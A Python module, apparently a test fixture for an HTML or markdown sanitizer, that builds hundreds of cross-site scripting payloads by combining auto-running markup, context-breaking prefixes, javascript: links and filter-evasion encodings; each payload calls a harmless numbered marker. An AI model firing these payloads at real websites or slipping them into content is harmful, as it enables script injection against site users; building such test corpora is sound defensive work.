"""What tries to run in a page: known kinds of markup × how it is written × what it breaks out of. Each says `go(number)`."""

import re
from html import escape
from itertools import cycle
from urllib.parse import quote

# markup that runs by itself, X stands for what it runs
KINDS = (
    "<script>X</script>", "<script src=data:,X></script>", "<img src=x onerror=X>", "<image src=x onerror=X>",
    "<svg onload=X>", "<svg><script>X</script></svg>", "<svg><animate onbegin=X attributeName=x dur=1s>",
    "<svg><set onbegin=X attributeName=x dur=1s>", "<body onload=X>", "<body onpageshow=X>", "<video src=x onerror=X>",
    "<video><source src=x onerror=X>", "<audio src=x onerror=X>", "<details open ontoggle=X>y</details>",
    "<input autofocus onfocus=X>", "<select autofocus onfocus=X>", "<textarea autofocus onfocus=X>", "<a autofocus href=# onfocus=X>y",
    "<iframe onload=X>", "<iframe src=javascript:X>", "<iframe srcdoc='<script>X</script>'>", "<object data=x onerror=X>",
    "<embed src=javascript:X>", "<link rel=stylesheet href=x onerror=X>", "<style onload=X></style>", "<marquee onstart=X>y</marquee>",
    "<math><mtext><table><mglyph><style><img src=x onerror=X>", "<p tabindex=1 autofocus onfocus=X>y", "<form><button autofocus onfocus=X>y",
    "<meta http-equiv=refresh content=0;url=javascript:X>", "<base href=javascript:X//><a href=#>y",
    "<template><script>X</script></template><img src=x onerror=X>", "<noscript><p title='</noscript><img src=x onerror=X>'>",
)  # fmt: skip
# what stands around: the places that a text may come to stand in, and what ends them
PLACES = (
    "{}", '">{}', "'>{}", "</title>{}", "</textarea>{}", "</script>{}", "</style>{}", "-->{}", "]]>{}", "</p></article>{}",
    "**{}**", "[{}](https://a.example)", "`{}`{}", "| a |\n|---|\n| {} |", "- {}", "> {}", "![{}](x)", "&lt;{}", "\u202e{}", "{{7*7}}{}",
)  # fmt: skip
# links that run something when they are followed, and attributes that break out of one
LINKS = (
    "[x](javascript:X)", "[x](JaVaScRiPt:X)", "[x](java\tscript:X)", "[x](java&#10;script:X)", "[x](&#106;avascript:X)", "[x](\x01javascript:X)",
    "[x](<javascript:X>)", "[x](data:text/html,<script>X</script>)", "[x](vbscript:X)", "<javascript:X>", "[x][y]\n\n[y]: javascript:X",
    '[x](https://a.example" onmouseover="X)', "[x](https://a.example 'y\" onmouseover=\"X')", '![x" onerror="X](x)', "[x](//a.example/\"onfocus=X autofocus=\")",
)  # fmt: skip


def _mixed(text):
    return "".join(c.upper() if i % 2 else c for i, c in enumerate(text))


# the same, written otherwise: X is put in afterwards, as names of functions are not free
WRITTEN = (
    lambda v: v,
    lambda v: "X".join(part.upper() for part in v.split("X")),
    lambda v: "X".join(map(_mixed, v.split("X"))),
    lambda v: re.sub(r"^<(\w+) ", r"<\1/", v),
    lambda v: re.sub(r"^<(\w+) ", "<\\1\x0c", v),
    lambda v: re.sub(r"^<(\w+) ", "<\\1\n", v),
    lambda v: v.replace("=X", '="X"'),
    lambda v: v.replace("=X", "='X'"),
    lambda v: v.replace("=X", "=`X`"),
    lambda v: v.replace(">", " //", 1) if v.endswith("X>") else v,
    lambda v: v.removesuffix(">"),
    lambda v: v.replace("<script", "<scr<script>ipt").replace("<img", "<<img"),
    lambda v: v.replace("<", "\x00<"),
    escape,
    lambda v: "".join(f"&#{ord(c)};" if c in "<>=" else c for c in v),
    lambda v: "".join(f"&#x{ord(c):x}" if c in "<>" else c for c in v),
    lambda v: v.replace("<", "＜").replace(">", "＞"),
    lambda v: v.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda v: quote(v, safe="X= "),
)


def vectors():
    """At least 500 texts, all different; number n calls go(n)."""
    made = {written(kind) for kind in KINDS for written in WRITTEN}
    places = cycle(PLACES)
    made = {place.replace("{}", v) for v in sorted(made) for place in (next(places), "{}")} | set(LINKS)
    return [v.replace("X", f"go({n})") for n, v in enumerate(sorted(made), 1)]
